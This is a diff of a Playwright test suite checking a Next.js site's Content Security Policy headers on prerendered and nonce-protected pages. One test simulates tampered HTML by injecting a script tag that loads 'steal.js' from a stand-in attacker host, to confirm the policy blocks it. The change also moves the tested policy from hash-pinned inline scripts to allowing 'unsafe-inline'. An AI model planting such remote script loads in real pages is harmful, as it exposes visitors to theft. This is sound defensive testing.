@@ -3,13 +3,12 @@ import path from "node:path";
 import type { Page } from "@playwright/test";
 import { noncePages } from "@/lib/security/nonce-pages";
 import { staticPolicyHeader, videoStudioPermissions } from "@/lib/security/headers";
-import { inlineScripts, sha256Source } from "../../scripts/lib/script-hashes.mjs";
 import { e2eAdmin } from "../../playwright.config";
 import { expect, signInAdmin, test } from "./support";
 
 // The CSP per page kind (lib/security/headers.ts): a fresh nonce on every page rendered per
-// request; on prerendered pages, which must stay prerendered, the fixed policy plus the hashes of
-// the inline scripts of the very response (scripts/lib/inline-script-policy.mjs).
+// request; on prerendered pages, which must stay prerendered, one fixed policy, the same under
+// `npm start`, plain `next start` and Vercel.
 
 const manifest = (name: string) => JSON.parse(readFileSync(path.join(".next", name), "utf8"));
 const prerendered = new Set(Object.keys(manifest("prerender-manifest.json").routes as Record<string, unknown>));
@@ -57,38 +56,34 @@ for (const route of noncePages) {
   });
 }
 
-test("prerendered pages stay prerendered, and their policy names the hash of each of their inline scripts", async ({ request }) => {
+test("prerendered pages stay prerendered, with the one fixed policy every deployment sends", async ({ request }) => {
   const staticPages = pages.filter((url) => prerendered.has(url));
   expect(staticPages).toEqual(expect.arrayContaining(["/", "/gallery", "/music", "/video-studio", "/contact"]));
-  const hashesByPage = new Map<string, string[]>();
   for (const route of staticPages) {
     const response = await request.get(route);
     expect(response.headers()["x-nextjs-prerender"], route).toMatch(/^1(, 1)*$/);
-    const policy = response.headers()["content-security-policy"] ?? "";
     expect(response.headersArray().filter((header) => header.name.toLowerCase() === "content-security-policy"), route).toHaveLength(1);
-    expect(policy, route).not.toContain("'nonce-");
-    const hashes = inlineScripts(await response.text()).map(sha256Source);
-    expect(hashes.length, route).toBeGreaterThan(0);
-    // 'unsafe-inline' stays for browsers without hashes; every other one ignores it.
-    expect(scriptSrc(policy), route).toEqual(["'self'", "'unsafe-inline'", ...new Set(hashes)]);
-    expect(policy.replace(/ 'sha256-[^']+'/g, ""), route).toBe(staticPolicyHeader().value);
-    hashesByPage.set(route, hashes);
+    // The same HTML for every visitor cannot carry a nonce, and Next.js inlines each page's data as
+    // scripts: inline scripts are allowed, eval and every other script host are not.
+    const policy = response.headers()["content-security-policy"] ?? "";
+    expect(policy, route).toBe(staticPolicyHeader().value);
+    expect(scriptSrc(policy).slice(0, 2), route).toEqual(["'self'", "'unsafe-inline'"]);
+    expect(policy, route).not.toContain("'unsafe-eval'");
+    expect(policy, route).toContain("object-src 'none'");
+    expect(policy, route).toContain("frame-ancestors 'none'");
   }
-  // Each page's data scripts differ, so no fixed list could have served them all.
-  expect(hashesByPage.get("/")).not.toEqual(hashesByPage.get("/gallery"));
 });
 
-test("a script injected into a prerendered page does not run; the page's own scripts do", async ({ page }) => {
+test("a prerendered page does not load a script from another host, and its own scripts run", async ({ page }) => {
   const violations = await watchViolations(page);
-  // As if the stored HTML had been tampered with: the server's headers, one more inline script.
+  // As if the stored HTML had been tampered with: the server's headers, one more script from elsewhere.
   await page.route("**/gallery", async (route) => {
     const response = await route.fetch();
-    const html = (await response.text()).replace("</body>", "<script>window.injected = true</script></body>");
+    const html = (await response.text()).replace("</body>", '<script src="https://evil.example/steal.js"></script></body>');
     await route.fulfill({ response, body: html });
   });
   await page.goto("/gallery");
-  expect(await page.evaluate(() => (window as Window & { injected?: boolean }).injected)).toBeUndefined();
-  expect(violations.length).toBeGreaterThan(0);
+  await expect.poll(() => violations.length).toBeGreaterThan(0);
   for (const violation of violations) expect(violation).toMatch(/script-src/);
   // The theme script ran, and the page hydrated from its data scripts: the router follows a link.
   expect(await page.evaluate(() => document.documentElement.style.colorScheme)).toMatch(/^(dark|light)$/);
@@ -111,7 +106,7 @@ test("no ad host without NEXT_PUBLIC_ADSENSE_CLIENT, and COOP and CORP everywher
 test("the video studio alone may use the camera, under the fixed policy", async ({ request }) => {
   const headers = (await request.get("/video-studio")).headers();
   expect(headers["permissions-policy"]).toBe(videoStudioPermissions.value);
-  expect(scriptSrc(headers["content-security-policy"]).slice(0, 3)).toEqual(["'self'", "'unsafe-inline'", expect.stringMatching(/^'sha256-/)]);
+  expect(headers["content-security-policy"]).toBe(staticPolicyHeader().value);
 });
 
 test("the session cookie is __Host-: Secure, Path=/, no Domain", async ({ playwright }) => {
